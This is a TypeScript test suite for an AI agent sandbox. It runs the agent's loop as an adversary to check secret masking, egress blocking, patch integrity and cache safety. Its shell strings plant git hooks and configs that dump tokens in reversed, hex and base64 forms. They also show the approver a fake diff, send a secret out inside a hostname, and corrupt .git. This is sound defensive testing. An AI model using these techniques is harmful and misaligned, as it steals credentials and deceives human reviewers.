/**
 * The agent is the adversary, on the real stack: each attack is written as a hostile
 * loop command would write it, and each test has a positive control in the same job
 * (the attack working where it may: in the agent's own steps), so that a probe that could
 * not see the leak does not pass.
 */
import { createHash } from 'node:crypto';
import type { JobView } from '../../common/job';
import { KeptStore } from '../../db/kept-store';
import { type GitFixture, startGitFixture } from '../../testing/git-fixture';
import { startTestStack, type TestStack } from '../../testing/stack';

const READ = 'adv-Read/Token+0123456789';
const PUSH = 'adv-Push/Token+9876543210';
/** A form no masker knows: the value reversed. */
const reversed = (v: string) => [...v].reverse().join('');

let stack: TestStack;
let repo: GitFixture;

beforeAll(async () => {
  process.env.DRAFTSMAN_SECRET_ADV_READ = READ;
  process.env.DRAFTSMAN_SECRET_ADV_PUSH = PUSH;
  [stack, repo] = await Promise.all([startTestStack({ DRAFTSMAN_SECRET_GRANTS: 'admin=adv-read+adv-push' }), startGitFixture(1)]);
});
afterAll(async () => {
  // The workspaces this file's jobs kept, and their rows.
  const kept = stack && new KeptStore(stack.store.pool);
  for (const k of (await kept?.list()) ?? []) {
    if (!k.scope.startsWith(`repo=${repo?.url}`)) continue;
    await kept!.remove(k.id);
    await stack.runner.removeKept(k.id).catch(() => undefined);
  }
  await Promise.allSettled([stack?.stop(), repo?.stop()]);
});

interface Line {
  step: string;
  text: string;
}

async function logsOf(id: string): Promise<Line[]> {
  const text = await (await fetch(`${stack.apiUrl}/v1/jobs/${id}/logs`, { headers: stack.authHeader })).text();
  return text
    ? text
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l) as Line)
    : [];
}
const stepText = (lines: Line[], step: string) =>
  lines
    .filter((l) => l.step === step)
    .map((l) => l.text)
    .join('\n');
const patchOf = async (id: string) => Buffer.from(await (await fetch(`${stack.apiUrl}/v1/jobs/${id}/patch`, { headers: stack.authHeader })).arrayBuffer());

/**
 * A program the agent leaves in its `.git`: it notes the step kind it ran in (in the
 * workspace, where a later step can read it) and prints every secret it finds in its
 * environment reversed, a form the log masker does not know.
 */
const EVIL = [
  '#!/bin/sh',
  'echo "ran in ${DRAFTSMAN_STEP_KIND:-?}" >> /workspace/.git/witness 2>/dev/null',
  'env | grep _TOKEN= | awk \'{s=""; for (i = length($0); i > 0; i--) s = s substr($0, i, 1); print "leak:" s}\'',
  // A filter's clean must hand the contents on.
  'case "$(basename "$0")" in clean) cat;; esac',
  'exit 0',
].join('\n');

/** An external diff that shows the approver a change other than the workspace's. */
const FAKE_DIFF = ['#!/bin/sh', 'echo "diff --git a/innocent.txt b/innocent.txt"', 'echo "FAKE-DIFF: nothing to see here"'].join('\n');

/** The hostile loop: every git config that names a program, hooks, attributes; a real change; and the agent's own git run (the positive control). */
const HOSTILE_LOOP = [
  'set -e',
  'mkdir -p .git/evil-hooks',
  `printf '%s\\n' '${EVIL.replace(/'/g, "'\\''")}' > .git/evil`,
  `printf '%s\\n' '${FAKE_DIFF.replace(/'/g, "'\\''")}' > .git/fake-diff`,
  'cp .git/evil .git/clean',
  'chmod +x .git/evil .git/clean .git/fake-diff',
  'for h in pre-commit post-commit post-checkout pre-push post-index-change reference-transaction applypatch-msg pre-applypatch post-applypatch post-rewrite; do cp .git/evil .git/evil-hooks/$h; cp .git/evil .git/hooks/$h; done',
  'git config core.hooksPath /workspace/.git/evil-hooks',
  'git config core.fsmonitor /workspace/.git/evil',
  'git config diff.external /workspace/.git/fake-diff',
  'git config filter.evil.clean /workspace/.git/clean',
  'git config diff.evil.textconv /workspace/.git/evil',
  'git config core.pager /workspace/.git/evil',
  'git config credential.helper "!/workspace/.git/evil"',
  'echo "* filter=evil diff=evil" > .gitattributes',
  'echo "the agent\'s change" > feature.txt',
  'echo "HARMLESS=1" > .env',
  // Positive control: the agent's own git runs all of it, here, with the agent's secrets.
  'git add -A || true',
  'git -c user.name=a -c user.email=a@a commit -qm agent || true',
  'git diff HEAD~1 || true',
].join('\n');

test("what the loop configures in .git runs in the loop only: not in the patch, not beside publish's secret; the stored patch is the workspace's; publish pushes exactly it", async () => {
  const id = await stack.submit({
    repo: repo.url,
    commit: repo.head,
    secrets: { READ_TOKEN: 'adv-read' },
    publishSecrets: { PUSH_TOKEN: 'adv-push' },
    loop: { command: HOSTILE_LOOP, maxIterations: 1 },
    // After the patch step, before publish: which kinds the agent's programs ran in.
    validate: ['cat .git/witness'],
    publish: [
      // What publish sees: Draftsman's .git, the commit and the approved patch staged.
      'git diff --cached --binary HEAD | sha256sum',
      'ls -A; ls -A .git',
      'git -c user.name=p -c user.email=p@p commit -qm publish && git log -1 --format=%s',
    ],
  });
  const job = await stack.waitForEnd(id);
  expect(job.status).toBe('succeeded');
  const lines = await logsOf(id);

  // Positive controls: the agent's programs ran in its own step and printed its secret reversed, unmasked.
  expect(stepText(lines, 'validate-0')).toContain('ran in loop');
  expect(stepText(lines, 'loop-1')).toContain(`leak:${reversed(`READ_TOKEN=${READ}`)}`);
  expect(stepText(lines, 'loop-1')).toContain('FAKE-DIFF');

  // They ran nowhere else: not in the patch step (the witness, read after it, names the loop alone), not in publish.
  expect(new Set(stepText(lines, 'validate-0').split('\n'))).toEqual(new Set(['ran in loop']));
  const all = lines.map((l) => l.text).join('\n');
  expect(all).not.toContain(reversed(PUSH));
  expect(stepText(lines, 'publish-1')).not.toMatch(/evil|witness|fake-diff|\.env/);

  // The stored patch is the workspace's change, not the fake diff; the withheld .env is not in it.
  const patch = await patchOf(id);
  expect(patch.toString()).toContain('diff --git a/feature.txt b/feature.txt');
  expect(patch.toString()).not.toContain('FAKE-DIFF');
  expect(patch.toString()).not.toContain('.env');
  // Publish staged exactly the stored patch (the one the approver sees), and committed on the job's commit.
  expect(stepText(lines, 'publish-0')).toContain(createHash('sha256').update(patch).digest('hex'));
  expect(stepText(lines, 'publish-2')).toBe('publish');
  const events = await stack.store.events(id);
  expect(events.find((e) => e.type === 'publish_checkout')?.data).toEqual({ commit: repo.head, patchBytes: patch.length });
});

test("a fork of a workspace whose .git the agent configured: the cache key's hash runs none of it, and the fork ends", async () => {
  const parent = await stack.submit({
    repo: repo.url,
    commit: repo.head,
    secrets: { READ_TOKEN: 'adv-read' },
    loop: { command: HOSTILE_LOOP, maxIterations: 1 },
    snapshot: { after: 'loop-1' },
  });
  expect((await stack.waitForEnd(parent)).status).toBe('succeeded');
  const started = Date.now();
  const fork = await stack.submit({
    repo: repo.url,
    commit: repo.head,
    from: { job: parent, after: 'loop-1' },
    caches: [{ name: 'advfork', key: "advfork-{{ hashFiles('marker') }}" }],
    setup: ['cat .git/witness'],
    loop: { command: 'git status --short >/dev/null 2>&1; cat .git/witness', maxIterations: 1 },
  });
  const job: JobView = await stack.waitForEnd(fork, 90_000);
  expect(job.status).toBe('succeeded');
  expect(Date.now() - started).toBeLessThan(90_000);
  const events = await stack.store.events(fork);
  const lookup = events.find((e) => e.type === 'cache_miss' || e.type === 'cache_hit');
  // The key is the hash of the commit's `marker`: no program's output in it.
  expect(String(lookup?.data.key)).toMatch(/^advfork-[0-9a-f]{64}$/);
  const lines = await logsOf(fork);
  // Before setup only the parent's loop had run the programs; positive control: the fork's own loop runs them again.
  const before = stepText(lines, 'setup-0').split('\n');
  expect(new Set(before)).toEqual(new Set(['ran in loop']));
  expect(
    stepText(lines, 'loop-1')
      .split('\n')
      .filter((l) => l === 'ran in loop').length,
  ).toBeGreaterThan(before.length);
});

/** A value printed beside the secret in the same forms, not a secret: the positive control of every leak probe below. */
const DECOY = 'adv-Decoy/Value+5555555555';

/**
 * The test's own probe, apart from Draftsman's scanner: whether a text holds `value` as
 * it is, split by line breaks, in base64 (wrapped or not), in hex (any separators) or
 * URL-encoded or JSON-escaped.
 */
function probe(text: string, value: string): boolean {
  const flat = text.replace(/\s+/g, '');
  const hex = Buffer.from(value).toString('hex');
  if (
    flat.includes(value.replace(/\s+/g, '')) ||
    text
      .replace(/^[0-9a-f]{6,}:? /gm, '')
      .replace(/[^0-9a-fA-F]/g, '')
      .toLowerCase()
      .includes(hex)
  )
    return true;
  if (decodeURIComponent(text.replace(/%(?![0-9a-fA-F]{2})/g, '%25')).includes(value) || text.replace(/\\\//g, '/').includes(value)) return true;
  for (const run of flat.match(/[A-Za-z0-9+/=]{16,}/g) ?? []) {
    for (let skip = 0; skip < 4; skip++) if (Buffer.from(run.slice(skip), 'base64').toString('latin1').includes(value)) return true;
  }
  return false;
}

/** The same output of a value, in every form: the loop prints it for the secret and for the decoy. */
const PRINT_EVERY_FORM = [
  // Cut by the 64 KiB line cut: 65 530 characters, then the value, on one line.
  "printf '%65530s' '' | tr ' ' x; printf '%s\\n' \"$V\"",
  // base64 wraps at 76 columns.
  'printf "a long enough prefix to wrap the value across lines %s" "$V" | base64',
  // Hex with spaces, and with addresses.
  'printf %s "$V" | od -An -tx1',
  'printf %s "$V" | od -tx1',
  // URL-encoded, every byte.
  "printf %s \"$V\" | od -An -tx1 -v | tr -s ' \\n' ' ' | sed 's/ $//; s/ /%/g'; echo",
  // JSON with its slashes escaped.
  'printf \'{"token":"%s"}\\n\' "$V" | sed \'s#/#\\\\/#g\'',
].join('\n');

test('a secret printed in the forms an agent reaches for, and cut across lines, is in no stored log line; the same forms of a decoy are', async () => {
  const id = await stack.submit({
    repo: repo.url,
    commit: repo.head,
    secrets: { READ_TOKEN: 'adv-read' },
    loop: { command: `V="$READ_TOKEN"\n${PRINT_EVERY_FORM}\nV="${DECOY}"\n${PRINT_EVERY_FORM}`, maxIterations: 1 },
  });
  expect((await stack.waitForEnd(id)).status).toBe('succeeded');
  const text = stepText(await logsOf(id), 'loop-1');
  // Positive control: each form of the decoy is found by the probe in what was stored.
  expect(probe(text, DECOY)).toBe(true);
  for (const form of PRINT_EVERY_FORM.split('\n')) {
    const alone = await stack.submit({ repo: repo.url, commit: repo.head, loop: { command: `V="${DECOY}"\n${form}`, maxIterations: 1 } });
    expect((await stack.waitForEnd(alone)).status).toBe('succeeded');
    expect([form, probe(stepText(await logsOf(alone), 'loop-1'), DECOY)]).toEqual([form, true]);
  }
  expect(probe(text, READ)).toBe(false);
});

test('strings a step chooses reach the audit trail masked: a refused host, a withheld file name; refusals are capped per job', async () => {
  const hexOf = (v: string) => Buffer.from(v).toString('hex');
  const id = await stack.submit({
    repo: repo.url,
    commit: repo.head,
    secrets: { READ_TOKEN: 'adv-read' },
    loop: {
      command: [
        'HEX=$(printf %s "$READ_TOKEN" | od -An -tx1 | tr -d " \\n")',
        // Exfiltration through the name of a refused host, and of files.
        'git ls-remote "http://$HEX.example.invalid/r.git" >/dev/null 2>&1 || true',
        `git ls-remote "http://${hexOf(DECOY)}.example.invalid/r.git" >/dev/null 2>&1 || true`,
        'echo "$READ_TOKEN" > "leak-$HEX.txt"',
        // A flood of refused hosts.
        'i=0; while [ $i -lt 120 ]; do printf "GET http://flood-$i.example.invalid/ HTTP/1.1\\r\\nHost: flood-$i.example.invalid\\r\\n\\r\\n" | socat -T1 - TCP:127.0.0.1:3128 >/dev/null 2>&1 || true; i=$((i+1)); done',
      ].join('\n'),
      maxIterations: 1,
    },
  });
  const job = await stack.waitForEnd(id);
  expect(job.status).toBe('succeeded');
  const events = await stack.store.events(id);
  const denied = events.filter((e) => e.type === 'egress_denied').map((e) => String(e.data.host));
  // Positive control: the decoy's host is recorded as it was asked for.
  expect(denied).toContain(`${hexOf(DECOY)}.example.invalid`);
  expect(denied).toContain('***.example.invalid');
  const withheld = events.filter((e) => e.type === 'patch_file_withheld').map((e) => String(e.data.file));
  expect(withheld).toEqual(['leak-***.txt']);
  const trail = JSON.stringify([events, job]);
  expect(probe(trail, READ)).toBe(false);
  expect(trail).not.toContain(hexOf(READ));
  // At most 100 refusals listed, then one event saying the rest were counted.
  expect(denied.length).toBe(100);
  expect(events.filter((e) => e.type === 'egress_denied_capped')).toHaveLength(1);
  const { rows } = await stack.store.pool.query<{ denied: string }>('SELECT denied FROM job_egress WHERE job_id = $1', [id]);
  expect(Number(rows[0]?.denied)).toBeGreaterThanOrEqual(122);
});

test("a cache whose file names or symlink targets carry a secret is not saved, named masked; a cache with the decoy's is", async () => {
  const id = await stack.submit({
    repo: repo.url,
    commit: repo.head,
    secrets: { READ_TOKEN: 'adv-read' },
    caches: [
      { name: 'advnames', key: 'advnames-1' },
      { name: 'advlinks', key: 'advlinks-1' },
      { name: 'advdecoy', key: 'advdecoy-1' },
    ],
    setup: [
      'HEX=$(printf %s "$READ_TOKEN" | od -An -tx1 | tr -d " \\n"); touch "/cache/advnames/pkg-$HEX.json"',
      'ln -s "/opt/$(printf %s "$READ_TOKEN" | base64 | tr "/+" "_-")" /cache/advlinks/current',
      `touch "/cache/advdecoy/pkg-${Buffer.from(DECOY).toString('hex')}.json"; ln -s "/opt/${Buffer.from(DECOY).toString('base64url')}" /cache/advdecoy/current`,
    ],
  });
  expect((await stack.waitForEnd(id)).status).toBe('succeeded');
  const events = await stack.store.events(id);
  const refused = Object.fromEntries(events.filter((e) => e.type === 'cache_refused').map((e) => [e.data.name, e.data.files]));
  expect(refused).toEqual({ advnames: ['pkg-***.json'], advlinks: ['current'] });
  // Positive control: the same names and targets of a value that is no secret are saved.
  expect(events.filter((e) => e.type === 'cache_saved').map((e) => e.data.name)).toEqual(['advdecoy']);
  expect(probe(JSON.stringify(events), READ)).toBe(false);
});

test.each([
  ['removes its .git', 'rm -rf .git', /no \.git\/objects to read commit/],
  [
    'alters the objects of the commit',
    'chmod -R u+w .git/objects; for f in $(find .git/objects -type f); do printf garbage > "$f"; done',
    /not valid|do not match|no longer holds/,
  ],
])('an agent that %s: the patch fails the job at once, saying why (no retries for the job time limit)', async (_what, command, reason) => {
  const started = Date.now();
  const id = await stack.submit({
    repo: repo.url,
    commit: repo.head,
    loop: { command: `echo change > feature.txt; ${command}`, maxIterations: 1 },
    timeouts: { jobSeconds: 600 },
  });
  const job = await stack.waitForEnd(id, 60_000);
  expect(job.status).toBe('failed');
  expect(job.error).toMatch(/reading the patch failed with exit code 3: draftsman: /);
  expect(job.error).toMatch(reason);
  expect(Date.now() - started).toBeLessThan(60_000);
  // The agent's own step succeeded: its result is kept.
  expect(job.steps.find((s) => s.kind === 'loop')?.status).toBe('succeeded');
});

test('a fork of a workspace whose .git the agent removed fails at its cache key, at once, saying why', async () => {
  const parent = await stack.submit({ repo: repo.url, commit: repo.head, loop: { command: 'rm -rf .git', maxIterations: 1 }, snapshot: { after: 'loop-1' } });
  // Its own patch fails too, after the workspace was kept.
  expect((await stack.waitForEnd(parent)).status).toBe('failed');
  const started = Date.now();
  const fork = await stack.submit({
    repo: repo.url,
    commit: repo.head,
    from: { job: parent, after: 'loop-1' },
    caches: [{ name: 'advgone', key: "advgone-{{ hashFiles('marker') }}" }],
    setup: ['true'],
  });
  const job = await stack.waitForEnd(fork, 60_000);
  expect(job.status).toBe('failed');
  expect(job.error).toMatch(/hashing files of job .* failed \(exit 3\): draftsman: the workspace has no \.git\/objects/);
  expect(Date.now() - started).toBeLessThan(60_000);
});
